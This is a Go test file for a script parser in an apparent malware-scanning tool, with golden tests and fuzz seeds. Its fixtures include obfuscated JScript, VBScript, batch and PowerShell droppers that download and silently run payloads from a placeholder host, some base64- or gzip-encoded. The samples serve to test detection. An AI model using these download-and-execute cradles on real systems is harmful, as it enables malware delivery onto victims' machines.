package script

import (
	"bytes"
	"encoding/base64"
	"flag"
	"strings"
	"testing"

	"github.com/klauspost/compress/gzip"

	"foregate/scan/file/internal/sample"
	"foregate/scan/file/tree"
)

var _ = flag.Bool("update", false, "write the golden files")

func wide(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func packed(t *testing.T, s string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b64(b.String())
}

func TestGolden(t *testing.T) {
	for _, tt := range []struct{ name, file, text string }{
		{"jscript", "invoice.js", `var s = new ActiveXObject("WSc" + "ript.Sh" + "ell"), h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "htt" + "ps://files.example/" + "a.exe", false); h.send();
var st = WScript.CreateObject("ADODB.Stream"); st.SaveToFile("C:\\Users\\Public\\a.exe", 2); s.Run("C:\\Users\\Public\\a.exe", 0);`},
		{"vbscript", "a.vbs", "Dim sh ' a comment\r\nSet sh = CreateObject(\"WScript\" & \".Shell\")\r\nu = StrReverse(\"exe.a/elpmaxe.selif//:sptth\")\r\nc = Chr(112) & Chr(111+0) & \"wershell -w hidden -c \"\"iwr \" _\r\n & u & \"\"\"\"\r\nsh.Run c, 0, False\r\nExecute Replace(\"Set q = Cre@teObject(\"\"Shell.Applic@tion\"\")\", \"@\", \"a\")"},
		{"encoded", "a.vbe", "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"},
		{"powershell", "a.ps1", "$c = ('Inv'+'oke-Expr'+'ession'); & (\"{1}{0}\" -f 'X','IE') (New-Object Net.WebClient).DownloadString('https://files.example/stage2'); $u = [char]104+[char]116+[char]116+[char]112"},
		{"encoded-command", "run.bat", "@echo off\r\nstart /min po^wershell -nop -w hidden -enc " + b64(wide("IEX (New-Object Net.WebClient).DownloadString('https://files.example/x')")) + "\r\n"},
		{"compressed", "a.ps1", "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" + packed(t, "Invoke-WebRequest https://files.example/packed -OutFile a") + "\")); IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"},
		{"carried", "a.vbs", "d = \"" + b64("PK\x03\x04"+strings.Repeat("inert ", 30)) + "\"\r\n"},
		{"scriptfile", "a.wsf", "<job><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script><script language=\"JScript\"><![CDATA[ new ActiveXObject('Shell.Application').ShellExecute('notepad') ]]></script></job>"},
		{"honest", "app.js", "export function add(a, b) { return a + b } console.log(add(1, 2))"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			sample.Golden(t, Parser{}, tt.name, sample.Input(tt.file, []byte(tt.text)))
		})
	}
}

func FuzzOpen(f *testing.F) {
	f.Add("a.vbs", []byte("a = Chr(1+&H41&) & Mid(\"abc\", 2) : Execute StrReverse(a) : x.Run Replace(a, \"b\", \"c\")"))
	f.Add("a.vbe", []byte("#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"))
	f.Add("a.ps1", []byte("powershell -e aQBlAHgA; [char]65+[char]66+[char]67; ('a'+'b'); \"{1}{0}\" -f 'a','b'"))
	f.Add("a.wsf", []byte("<job><script language=vbscript>x = 1</script></job>"))
	f.Fuzz(func(t *testing.T, name string, b []byte) {
		in := &tree.Input{Name: name, Data: b, Budget: tree.DefaultBudget()}
		if !(Parser{}).Opens(in) {
			return
		}
		left := in.Budget.Bytes
		res, _ := Parser{}.Open(t.Context(), in)
		sum := int64(0)
		for _, c := range res.Children {
			sum += int64(len(c.Data))
		}
		if sum > left-in.Budget.Bytes {
			t.Fatalf("%d bytes came out, %d were charged", sum, left-in.Budget.Bytes)
		}
	})
}
